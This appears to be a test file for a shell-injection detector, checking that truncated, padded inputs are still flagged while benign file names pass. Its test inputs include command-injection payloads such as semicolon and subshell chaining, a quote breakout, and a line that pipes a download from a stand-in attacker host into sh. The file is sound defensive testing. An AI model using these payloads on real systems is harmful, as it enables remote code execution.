// Inputs the app cut to a length before building a shell command (`arg.slice(0, n)`): an
// attacker pads past the payload so the input occurs nowhere; the prefix that reached the
// script is judged instead. Benign twins (long file names cut, plain words) pass.
import t from 'tap';
import { detectShellInjection } from '../../../src/detect/shell';

const input = (value: string) => [{ source: 'query' as const, path: 'f', value }];
const rule = (script: string, value: string) => detectShellInjection(script, input(value))?.rule;
const convert = (name: string) => `convert /srv/uploads/${name} -resize 800x600 /srv/thumbs/out.jpg`;
const quoted = (name: string) => `grep -c '${name}' /var/log/app.log`;
const pad = (payload: string, filler = 'A') => payload + filler.repeat(500);

t.test('attacks padded past the cut are caught at every cut length', async (t) => {
  const payloads = ['x;touch /tmp/pwned;', 'x$(touch /tmp/pwned)', 'x`id`', 'x && curl evil.example |sh'];
  for (const payload of payloads) {
    for (const n of [12, 16, 20, 24, 40]) {
      if (n < payload.length) continue;
      const value = pad(payload);
      t.ok(rule(convert(value.slice(0, n)), value), `${JSON.stringify(payload)} cut at ${n}`);
    }
  }
  const breakout = pad("x' ; touch /tmp/pwned ; '");
  t.equal(rule(quoted(breakout.slice(0, 30)), breakout), 'cmdi.operator', 'out of the quotes, then cut');
  const upper = pad('X;TOUCH /TMP/PWNED;');
  t.equal(rule(convert(upper.toLowerCase().slice(0, 24)), upper), 'cmdi.operator', 'lower-cased, then cut');
});

t.test('benign values cut by the app are not flagged', async (t) => {
  for (const name of ['holiday-photo-from-the-beach-2024.jpg', 'IMG_20240101_123456_HDR_final.png', 'report.quarterly.2024.q1.v2.pdf']) {
    for (const n of [12, 20, 24]) t.equal(rule(convert(name.slice(0, n)), name), undefined, `${name} cut at ${n}`);
  }
  t.equal(rule(quoted('connection reset by peer; retrying in 5s'.slice(0, 24)), 'connection reset by peer; retrying in 5s'), undefined, 'inside the quotes');
  t.equal(rule(convert('photo.jpg'), 'photo.jpg'), undefined, 'the whole input, as before');
});

t.test('short and non-maximal prefixes are not followed', async (t) => {
  t.equal(rule('ls x;id -l', 'x;id'), 'cmdi.operator', 'control: the whole input');
  t.equal(rule('echo x;i', 'x;id AAAA'), undefined, 'under MIN_PREFIX characters agree');
  t.equal(rule('echo 1.2.3.4.5.6', '1.2.3.4.5.6.7.8.9'), undefined, 'digits and dots carry nothing');
});
